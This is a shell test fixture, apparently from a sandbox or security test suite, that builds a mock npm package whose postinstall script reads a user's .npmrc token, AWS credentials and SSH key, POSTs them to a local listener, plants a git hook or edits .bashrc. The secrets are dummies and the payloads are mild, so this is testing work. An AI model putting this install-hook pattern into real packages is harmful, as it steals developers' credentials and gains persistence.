# npm installs a package from a folder; its script is the intruder.
prepare() {
    mkdir -p /home/ana/.ssh /home/ana/.aws /home/ana/app/.git/hooks /home/ana/bright-colours
    echo key >/home/ana/.ssh/id_ed25519
    echo '[default]' >/home/ana/.aws/credentials
    echo '//registry.example/:_authToken=none' >/home/ana/.npmrc
    : >/home/ana/.bashrc
    cd /home/ana/bright-colours
    echo '{"name":"bright-colours","version":"4.0.1","scripts":{"postinstall":"node lib/setup.js"}}' >package.json
    mkdir lib
    cat >lib/setup.js <<'J'
const fs = require("fs"), http = require("http"), what = process.env.STAGE || "read";
const home = "/home/ana/";
const take = () => [".npmrc", ".aws/credentials", ".ssh/id_ed25519"].map(f => { try { return fs.readFileSync(home + f, "utf8") } catch { return "" } }).join("\n");
if (what == "read") take();
if (what == "send") { const r = http.request({port: 9444, method: "POST", path: "/c"}); r.on("error", () => {}); r.setTimeout(800, () => r.destroy()); r.end(take()); }
if (what == "hook") fs.writeFileSync(home + "app/.git/hooks/post-merge", "#!/bin/sh\ntrue\n", {mode: 0o755});
if (what == "profile") fs.appendFileSync(home + ".bashrc", "\nexport COLOURS=bright\n");
J
    echo '{"name":"app","version":"1.0.0"}' >/home/ana/app/package.json
    chown -R 1000:1000 /home/ana
    listener 9444
}
install_again() { rm -rf /home/ana/app/node_modules; (cd /home/ana/app && STAGE=$1 as_ana npm install --offline --no-audit --no-fund --install-links --foreground-scripts ../bright-colours); }
read_tokens() { install_again read; }
send_them() { install_again send; }
leave_hook() { install_again hook; }
change_profile() { install_again profile; }
